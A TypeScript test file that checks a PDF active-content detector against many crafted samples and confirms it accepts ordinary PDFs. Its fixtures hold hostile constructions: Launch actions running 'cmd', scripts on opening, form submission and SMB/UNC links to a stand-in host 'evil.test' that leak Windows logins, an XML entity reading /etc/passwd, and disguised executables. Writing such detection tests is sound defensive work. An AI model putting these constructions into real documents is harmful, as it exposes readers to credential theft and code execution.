import type { PDFDocument } from '@cantoo/pdf-lib';
import { findActiveContent } from '../../src/pdf/active-content.ts';
import {
  annotated,
  attaching,
  catalogued,
  LAUNCH,
  made,
  packed,
  PACKED_PAGE,
  paged,
  SCRIPT,
  withField,
} from '../resources/policies/active-samples.ts';
import { deflatedOf, ONE_PAGE, pdfOf, streamOf } from '../resources/policies/pdf-samples.ts';

type Case = [string, string, () => Buffer | Promise<Buffer>];

const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(120), Buffer.from('PE\0\0')]);
const zipOf = (...names: string[]) => Buffer.from(names.map((name) => `PK\x03\x04\0\0${name}`).join('\0'), 'latin1');
const attach = (name: string, content: string) => (document: PDFDocument) =>
  document.attach(Buffer.from(content, 'latin1'), name, { mimeType: 'application/octet-stream' });

/** Builds a catalogue that opens with `length` chained actions; the /Next of the last action is `last`. */
const chain = (length: number, last: string) =>
  catalogued('/OpenAction 4 0 R', ...Array.from({ length }, (_, n) => `<</S/URI/URI(x:)/Next ${n + 5} 0 R>>`), last);

const actions: Case[] = [
  ['an open action that launches', 'Launch', () => catalogued(`/OpenAction${LAUNCH}`)],
  ['a link that launches', 'Launch', () => annotated(`/Subtype/Link/A${LAUNCH}`)],
  ['a link that launches only on Windows', 'Launch', () => annotated('/Subtype/Link/A<</S/Launch/Win<</F(cmd)>>>>')],
  ['a bookmark that launches', 'Launch', () => catalogued('/Outlines<</First 4 0 R>>', `<</Title(x)/A${LAUNCH}>>`)],
  ['a page action', 'Launch', () => paged(`/AA<</O${LAUNCH}>>`)],
  ['an annotation action', 'Launch', () => annotated(`/Subtype/Screen/AA<</PV${LAUNCH}>>`)],
  ['a form field action', 'Launch', () => withField(`/A${LAUNCH}`)],
  [
    'an action in an array of /Next actions',
    'Launch',
    () => catalogued(`/OpenAction<</S/URI/URI(x:)/Next[null ${LAUNCH}]>>`),
  ],
  ['an action at the end of a chain of 1,000', 'Launch', () => chain(1000, LAUNCH)],
  ['an action in a circular chain', 'Launch', () => chain(3, '<</S/Launch/F(x)/Next 4 0 R>>')],
  ['a script on opening', 'JavaScript', () => catalogued(`/OpenAction${SCRIPT}`)],
  [
    'a script in a stream',
    'JavaScript',
    () => catalogued('/OpenAction<</S/JavaScript/JS 4 0 R>>', streamOf('', Buffer.from('x'))),
  ],
  ['a named script', 'JavaScript', () => catalogued('/Names<</JavaScript<</Names[(a)4 0 R]>>>>', SCRIPT)],
  ['a script added by pdf-lib', 'JavaScript', () => made((document) => document.addJavaScript('a', 'x()'))],
  ['a document script that runs on closing', 'JavaScript', () => catalogued(`/AA<</WC${SCRIPT}>>`)],
  ['a script that validates a field', 'JavaScript', () => withField(`/AA<</K${SCRIPT}/V${SCRIPT}>>`)],
  ['a rendition script', 'JavaScript', () => annotated('/Subtype/Screen/A<</S/Rendition/OP 0/JS(x\\(\\))>>')],
  [
    'a 3D model script',
    'JavaScript',
    () => annotated('/Subtype/3D/3DD 5 0 R', streamOf('/Subtype/U3D/OnInstantiate 6 0 R', Buffer.from('x'))),
  ],
  ['an import of form data', 'ImportData', () => withField('/A<</S/ImportData/F(data.fdf)>>')],
  ['an XFA form', 'XFA', () => catalogued('/AcroForm<</Fields[]/XFA 4 0 R>>', streamOf('', Buffer.from('<xdp/>')))],
  ['rich media', 'RichMedia', () => annotated('/Subtype/RichMedia/RichMediaContent<</Assets<<>>>>')],
];

const URI = '<</S/URI/URI(https://evil.test/)>>';
const GO = '<</S/GoTo/D[3 0 R/Fit]>>';
const elsewhere: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = [
  ['opens a web page', () => catalogued(`/OpenAction${URI}`)],
  ['opens a web page through another object', () => catalogued('/OpenAction 4 0 R', URI)],
  ['opens a web page after another action', () => catalogued('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>', URI)],
  [
    'opens a web page after actions in nested arrays',
    () => catalogued('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[null[4 0 R]]>>', '[null 5 0 R]', `[${GO}${URI}]`),
  ],
  [
    'opens a web page in a circle of actions',
    () => catalogued('/OpenAction 4 0 R', '<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R 5 0 R]>>', URI),
  ],
  ['opens a web page from an object stream', () => packed([...PACKED_PAGE, URI])],
  ['opens another PDF', () => catalogued('/OpenAction<</S/GoToR/F(annex.pdf)/D[0/Fit]>>')],
  ['plays a film from another machine', () => catalogued('/OpenAction<</S/Rendition/OP 0/R<</S/MR/C<<>>>>>>')],
  ['opens an article thread of another PDF', () => catalogued('/OpenAction<</S/Thread/F(annex.pdf)/D 0>>')],
  ['submits a form when a page is shown', () => paged('/AA<</O<</S/SubmitForm/F(https://evil.test/)>>>>')],
  ['opens a web page when a page is shown', () => paged('/AA 4 0 R', '<</O 5 0 R>>', URI)],
  [
    'opens a web page through an object number with a comment in it',
    () =>
      Buffer.from(
        catalogued('/OpenAction 4 0 R', URI).toString('latin1').replace('4 0 obj', '4%x\n0 %\nobj'),
        'latin1',
      ),
  ],
];

test.each(elsewhere as [string, () => Buffer | Promise<Buffer>][])(
  'a PDF that %s without a click is rejected',
  async (_case, make) => {
    expect(findActiveContent(await make())).toContain('leads elsewhere without a click');
  },
);

test('a long chain of open actions is rejected, even if it has no effect', () => {
  const links = Array.from({ length: 50 }, (_, n) => `<</S/GoTo/D[3 0 R/Fit]/Next ${n + 5} 0 R>>`);
  const file = catalogued('/OpenAction 4 0 R', ...links, 'null', URI);
  expect(findActiveContent(file)).toContain('a long chain of actions');
});

test.each<[string, string]>([
  ['a link to a share', '/A<</S/GoToR/F(\\\\\\\\evil.test\\\\x.pdf)>>'],
  ['a link to a share written with slashes', '/A<</S/GoToR/F(//evil.test/x.pdf)>>'],
  ['a link to a share written in octal', '/A<</S/GoToR/F(\\134\\134evil.test\\134x)>>'],
  ['a link to a share written in UTF-16', '/A<</S/GoToR/F<</UF<FEFF005C005C00650076>>>>>'],
  ['the file URL of a share', '/A<</S/URI/URI(file://evil.test/x.pdf)>>'],
  ['a file URL with four slashes', '/A<</S/URI/URI( FILE:////evil.test/x)>>'],
  ['the smb URL of a share', '/A<</S/URI/URI(smb://evil.test/x)>>'],
  ['a search of a share', '/A<</S/URI/URI(search-ms:query=policy&crumb=location:\\\\evil.test\\x)>>'],
  ['a share in another object', '/A<</S/GoToR/F 5 0 R>>'],
])('%s is rejected, because Windows would send a login to the server', (_case, entries) => {
  const file = annotated(`/Subtype/Link${entries}`, '(\\\\\\\\evil.test\\\\x.pdf)');
  expect(findActiveContent(entries.includes('5 0 R') ? file : annotated(`/Subtype/Link${entries}`))).toContain(
    'on a server',
  );
});

test('a javascript: link is rejected', () => {
  expect(findActiveContent(annotated('/Subtype/Link/A<</S/URI/URI(JavaScript:alert\\(1\\))>>'))).toContain('script');
});

const attachments: Case[] = [
  ...[
    '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
    '<?xml-stylesheet type="text/xsl" href="https://evil.test/x.xsl"?><invoice/>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    ' <svg xmlns="http://www.w3.org/2000/svg"/>',
    '\xff\xfe' + Buffer.from('<a><script/></a>', 'utf16le').toString('latin1'),
  ].map((content): Case => [
    `markup that is more than data: ${content}`,
    'a web page, a script',
    () => attaching('(a.xml)', content),
  ]),

  ['an executable', '.exe file', () => attaching('(setup.exe)', PROGRAM)],
  ['an attachment named .exe without executable content', '.exe file', () => attaching('(setup.exe)')],
  ['an executable attached by pdf-lib', '.exe file', () => made(attach('setup.exe', 'MZ'))],
  [
    'an executable attached to an annotation',
    '.scr file',
    () => annotated('/Subtype/FileAttachment/FS<</F(a.scr)/EF<</F 5 0 R>>>>', streamOf('', PROGRAM)),
  ],
  [
    'an executable associated with the document',
    '.com file',
    () => catalogued('/AF[4 0 R]', '<</F(a.com)/EF<</F 5 0 R>>>>', streamOf('', PROGRAM)),
  ],
  ...['js', 'vbs', 'bat', 'lnk', 'jar', 'zip', 'docm', 'xls', 'html', 'svg', 'swf', 'iso', 'bin'].map(
    (ending): Case => [`a .${ending} file`, `.${ending} file`, () => attaching(`(a.${ending})`)],
  ),
  [
    'a second file name',
    '.exe file',
    () => catalogued('/AF[4 0 R]', '<</F(a.txt)/DOS(a.exe)/EF<</F 5 0 R>>>>', streamOf('', PROGRAM)),
  ],
  ['a file name in upper case', '.exe file', () => attaching('(a.EXE)')],
  ['a file name in UTF-16', '.exe file', () => attaching('<FEFF0061002E006500780065>')],
  ['a file name with octal escapes', '.exe file', () => attaching('(a.\\145x\\145)')],
  ['a file name in hexadecimal', '.exe file', () => attaching('<61 2E 65 78 65>')],
  ['a file name that ends with a space', 'an unknown type', () => attaching('(a.exe )')],
  ['a file name that ends with a dot', 'an unknown type', () => attaching('(a.exe.)')],
  ['a file name with a null character', 'an unknown type', () => attaching('(a.exe\\000.txt)')],
  ['a file name that starts with a dot', '.profile file', () => attaching('(.profile)')],
  ['a file name with an NTFS stream', 'an unknown type', () => attaching('(README:exe)')],
  ['a file name in another object', 'name cannot be read', () => attaching(' 6 0 R')],
  ['no file name', 'without a name', () => catalogued('/AF[4 0 R]', '<</EF<</F 5 0 R>>>>', streamOf('', PROGRAM))],
  ['an executable named .txt', 'is a program', () => attaching('(a.txt)', PROGRAM)],
  ['an uncompressed executable named .txt', 'is a program', () => attaching('(a.txt)', PROGRAM, { pack: false })],
  ['a Linux executable named .txt', 'is a program', () => attaching('(a.txt)', '\x7fELF\x02')],
  ['a shell script named .txt', 'is a program', () => attaching('(a.txt)', '#!/bin/sh\n')],
  ['a document with macros', 'macros', () => attaching('(a.docx)', zipOf('word/document.xml', 'word/vbaProject.bin'))],
  ['a spreadsheet with macros', 'macros', () => attaching('(a.ods)', zipOf('content.xml', 'Basic/Standard/a.xml'))],
  ['an attached PDF that launches', 'Launch', () => attaching('(a.pdf)', catalogued(`/OpenAction${LAUNCH}`))],
  [
    'an uncompressed attached PDF that launches',
    'Launch',
    () => attaching('(a.pdf)', catalogued(`/OpenAction${LAUNCH}`), { pack: false }),
  ],
  [
    'an attached PDF with an attached PDF with a script',
    'JavaScript',
    () => attaching('(a.pdf)', attaching('(b.pdf)', catalogued(`/OpenAction${SCRIPT}`))),
  ],
];

test.each([...actions, ...attachments])('%s is reported as active content', async (_case, name, make) => {
  expect(findActiveContent(await make())).toContain(name);
});

const link = (action: string) => annotated(`/Subtype/Link/A<<${action}>>`);
const annotatedAt = (entries: string, ...objects: string[]) => {
  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>';
  const annotation = `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${URI}>>`;
  return pdfOf([`<</Type/Catalog/Pages 2 0 R${entries}>>`, ONE_PAGE[1]!, page, annotation, ...objects]);
};
const prose = 'BT (The entry /S /Launch or /JS \\(x\\) and << /S /Launch >> are refused) Tj ET';
const ordinary: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = [
  ['a link to a web page', () => link('/S/URI/URI(https://intranet.test/S/Launch/JavaScript/JS)')],
  ['a link within the document', () => link('/S/GoTo/D[3 0 R/Fit]')],
  ['a link to another PDF', () => link('/S/GoToR/F(annex.pdf)/D[0/Fit]')],
  ['an open destination in another object, and a link', () => annotatedAt('/OpenAction 5 0 R', GO)],
  ['an open destination, and a link', () => annotatedAt('/OpenAction[3 0 R/Fit]')],
  ['an open destination as a referenced array, and a link', () => annotatedAt('/OpenAction 5 0 R', '[3 0 R/Fit]')],
  ["a link to a file on the reader's machine", () => link('/S/URI/URI(file:///C:/policies/a.docx)')],
  ['a print button', () => link('/S/Named/N/Print')],
  ['a form that a click sends', () => withField('/A<</S/SubmitForm/F(mailto:hr@company.test)/Next<</S/ResetForm>>>>')],
  ['an open destination', () => catalogued('/OpenAction[3 0 R/XYZ 0 0 1]/PageMode/UseOutlines')],
  ['bookmarks', () => catalogued('/Outlines<</First 4 0 R/Count 1>>', '<</Title(One)/Dest[3 0 R/Fit]>>')],
  [
    'a form made by pdf-lib',
    () => made((document) => document.getForm().createTextField('n').addToPage(document.getPage(0))),
  ],
  ['layers', () => catalogued('/OCProperties<</OCGs[4 0 R]/D<<>>>>', '<</Type/OCG/Name(Draft)>>')],
  ['a structure element of type JavaScript', () => catalogued('', '<</Type/StructElem/S/JavaScript/P 1 0 R>>')],
  ['page text about actions', () => paged('/Contents 4 0 R', streamOf('', Buffer.from(prose)))],
  ['a title about actions', () => catalogued('', `<</Title(${prose.replace('ET', ')')}>>`)],
  [
    'metadata text about actions',
    () => catalogued('/Metadata 4 0 R', streamOf('/Type/Metadata', Buffer.from(`<x>${prose}</x>`))),
  ],
  ['a colour profile', () => catalogued('', deflatedOf('/N 3/Alternate/DeviceRGB', Buffer.alloc(500)))],
  ['linearization hints', () => catalogued('', deflatedOf('/S 36/O 60', Buffer.alloc(90)))],
  ['a 3D model', () => annotated('/Subtype/3D/3DD 5 0 R', streamOf('/Subtype/U3D', Buffer.from('U3D')))],
  ['a null XFA entry', () => catalogued('/AcroForm<</Fields[]/XFA null>>')],
  ['an XML invoice attached as data', () => made(attach('factur-x.xml', '<invoice/>'))],
  ['its source attached', () => attaching('(Richtlinie \\374ber E-Mail.odt)', zipOf('mimetype', 'content.xml'))],
  ['a Word document attached', () => attaching('<FEFF0061002E0064006F00630078>', zipOf('word/document.xml'))],
  ['a CSV table attached', () => attaching('(countries.csv)', 'MZ;Mozambique\n')],
  ['an image attached', () => attaching('(SEAL.PNG)', '\x89PNG\r\n')],
  ['a TeX source attached', () => attaching('(formula-1.tex)', '\\\\(a^2\\\\)')],
  ['an attachment without an extension', () => attaching('(README)')],
  ['an attached PDF', () => attaching('(annex.pdf)', pdfOf(ONE_PAGE))],
  [
    'an uncompressed attached PDF',
    () =>
      attaching('(annex.pdf)', pdfOf([...ONE_PAGE, '7', streamOf('/Filter/DCTDecode', Buffer.from('x'))]), {
        pack: false,
      }),
  ],
  ['an attached PDF with object streams', async () => attaching('(annex.pdf)', await made(() => undefined))],
];

test.each(ordinary as [string, () => Buffer | Promise<Buffer>][])('a PDF with %s is accepted', async (_case, make) => {
  expect(findActiveContent(await make())).toBeUndefined();
});
